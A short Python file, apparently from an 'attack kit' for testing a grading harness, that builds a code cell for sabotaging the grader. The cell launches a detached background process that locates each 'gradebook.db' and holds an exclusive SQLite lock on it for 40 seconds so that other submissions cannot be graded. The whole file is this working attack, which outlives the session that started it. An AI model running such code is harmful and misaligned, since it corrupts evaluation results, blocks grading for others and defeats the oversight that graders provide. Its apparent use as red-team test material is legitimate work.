"""Hold a lock on the gradebook for as long as the others are graded."""

from attack_kit import FIND

CELL = (
    FIND
    + '''
import subprocess, sys
code = """
import sqlite3, sys, time
books = [sqlite3.connect(path, isolation_level=None) for path in sys.argv[1:]]
end = time.time() + 40
for book in books:
    while time.time() < end:
        try:
            book.execute("BEGIN EXCLUSIVE")
            break
        except sqlite3.Error:
            time.sleep(0.05)
time.sleep(40)
"""
subprocess.Popen(
    [sys.executable, "-c", code, *map(str, find("gradebook.db"))], start_new_session=True
)
'''
)
